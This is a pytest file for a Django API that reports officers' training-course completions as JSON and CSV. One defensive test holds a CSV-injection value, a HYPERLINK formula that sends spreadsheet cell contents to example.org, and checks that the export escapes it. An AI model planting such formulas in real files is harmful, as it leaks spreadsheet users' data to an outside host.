"""The rows, in both ways out."""

import csv
import io
from datetime import UTC, date, datetime

import pytest
from django.utils import timezone

from people.models import User
from reports.api import examples
from reports.completions import Completion

from .world import completed, enrol, make_course, make_enrolment, make_officers


@pytest.fixture
def region(world, caller):
    return caller(world.region)


def test_a_row_says_who_where_what_and_how_far(world, region):
    at = datetime(2026, 11, 20, 14, 30, 2, 500_000, tzinfo=UTC)
    enrolment = make_enrolment(world.station, world.course, "BA-1", due=date(2026, 12, 31), **completed(at))
    [row] = region.get().json()["results"]
    assert datetime.fromisoformat(row.pop("enrolled_at"))
    assert row == {
        "enrolment": enrolment.pk,
        "officer": {"id": enrolment.officer_id, "service_number": "BA-1", "first_name": "Amra", "last_name": "Hodžić"},
        "unit": {"code": "T-BA-SA-01", "name": "Station Centar"},
        "course": {
            "key": str(world.course.key),
            "slug": "investigating-hate-crime",
            "title": "Investigating hate crime",
            "language": "en",
        },
        "status": "completed",
        "percent": 100,
        "score": 87,
        "language": "bs",
        "due": "2026-12-31",
        "started_at": "2026-11-20T15:30:02+01:00",
        "completed_at": "2026-11-20T15:30:02+01:00",
        "last_activity_at": "2026-11-20T15:30:02+01:00",
        "completed_by": "learned",
    }


def test_what_is_not_there_yet_is_null(world, region):
    make_enrolment(world.station, world.course, "1")
    [row] = region.get().json()["results"]
    assert row["status"] == "not_started"
    assert row["percent"] == 0
    nulls = {name for name, value in row.items() if value is None}
    assert nulls == {"score", "language", "due", "started_at", "completed_at", "last_activity_at", "completed_by"}


def test_a_course_without_an_edition_is_named_by_its_slug(world, region):
    course = make_course("withdrawn", "Withdrawn")
    course.editions.all().delete()
    make_enrolment(world.station, course, "1")
    [row] = region.get().json()["results"]
    assert row["course"]["title"] == "withdrawn"


def test_the_example_in_the_description_has_the_form_of_a_real_row(world, region):
    make_enrolment(world.station, world.course, "1")
    [row] = region.get().json()["results"]

    def form(value):
        return {name: form(inner) for name, inner in value.items()} if isinstance(value, dict) else None

    assert form(examples.ROWS["completions"]) == form(row)
    assert list(examples.ROWS["completions"]) == list(row)
    assert examples.file("completions", "csv").split("\r\n")[0] == ",".join(Completion._fields)


# A file is read from one state of the database, which PostgreSQL is asked for by statements of their own.
@pytest.mark.parametrize(
    ("parameters", "most"), [({"page_size": 1000}, 8), ({"format": "csv"}, 10)], ids=["json", "csv"]
)
def test_queries_do_not_grow_with_the_rows(world, region, parameters, most, django_assert_max_num_queries):
    region.get()  # notes the use of the token, which is a query of the first call in a minute
    narrow = {"unit": "T-BA-SA-01", "course": world.course.slug, **parameters}
    region.get(**narrow).getvalue()  # and the access log that of the first call in an hour
    counts = []
    for number_of_officers, prefix in ((5, "A"), (495, "B")):
        enrol(make_officers(world.station, number_of_officers, prefix), world.course)
        with django_assert_max_num_queries(most) as queries:
            content = region.get(**narrow).getvalue()
        counts.append(len(queries))
    assert content.count(b"Amra") == 500
    assert counts[0] == counts[1]


def flat(row: dict) -> dict[str, str]:
    """A row of JSON as the line of a table says it."""
    officer = {"officer_id" if name == "id" else name: value for name, value in row["officer"].items()}
    pairs = {"enrolment": row["enrolment"], **officer}
    pairs |= {f"unit_{name}": value for name, value in row["unit"].items()}
    pairs |= {f"course_{name}": value for name, value in row["course"].items()}
    pairs |= {name: value for name, value in row.items() if not isinstance(value, dict)}
    return {name: "" if value is None else str(value) for name, value in pairs.items()}


def test_csv_says_what_json_says(world, region):
    make_enrolment(world.station, world.course, "1", due=date(2026, 12, 31), **completed())
    make_enrolment(world.sister_station, world.course, "2")
    assert region.table() == [flat(row) for row in region.get().json()["results"]]


def test_csv_comes_whole_and_in_order(world, region):
    enrolled = enrol(make_officers(world.station, 2500), world.course)
    assert [int(line["enrolment"]) for line in region.table()] == [one.pk for one in enrolled]


@pytest.mark.parametrize("way", [{"format": "csv"}, {"headers": {"Accept": "text/csv"}}], ids=["address", "header"])
def test_csv_is_asked_for_by_address_or_header(world, region, way):
    response = region.get(**way)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8; header=present"
    assert response.streaming


def test_the_address_goes_before_the_header(region):
    assert region.get(format="json", headers={"Accept": "text/csv"})["Content-Type"] == "application/json"
    assert region.get(format="csv", headers={"Accept": "application/json"})["Content-Type"].startswith("text/csv")


def test_a_header_that_nothing_fits_is_refused(region):
    response = region.get(headers={"Accept": "application/pdf"})
    assert response.status_code == 406
    assert response.json()["error"] == "not_acceptable"


def test_a_download_has_a_name_with_the_date(region):
    expected = f'attachment; filename="completions-{timezone.localdate():%Y-%m-%d}.csv"'
    assert region.get(format="csv")["Content-Disposition"] == expected


def test_an_empty_download_has_its_header_line(region):
    assert region.get(format="csv").getvalue().decode() == ",".join(Completion._fields) + "\r\n"


def test_a_name_that_is_a_formula_reaches_a_spreadsheet_as_text(world, region):
    evil = '=HYPERLINK("https://example.org/?"&A1,"me")'
    officer = User.objects.create(service_number="+1", first_name="@Amra", last_name=evil, unit=world.station)
    enrol([officer], world.course)
    [line] = region.table()
    assert (line["service_number"], line["first_name"], line["last_name"]) == ("'+1", "'@Amra", "'" + evil)
    [row] = region.get().json()["results"]
    assert row["officer"]["last_name"] == evil


def test_names_with_commas_quotes_and_lines_survive(world, region):
    name = 'Hodžić, "Amra"\r\nსახელი'
    person = {"service_number": "1", "first_name": name, "last_name": "Ђорђевић"}
    enrol([User.objects.create(unit=world.station, **person)], world.course)
    content = region.get(format="csv").getvalue().decode()
    [_header, line] = list(csv.reader(io.StringIO(content, newline="")))
    assert (line[3], line[4]) == (name, "Ђорђевић")
    assert content.endswith("\r\n")


def test_head_is_answered_without_a_body(region):
    response = region.http.head("/api/v1/completions/")
    assert response.status_code == 200
    assert response.content == b""
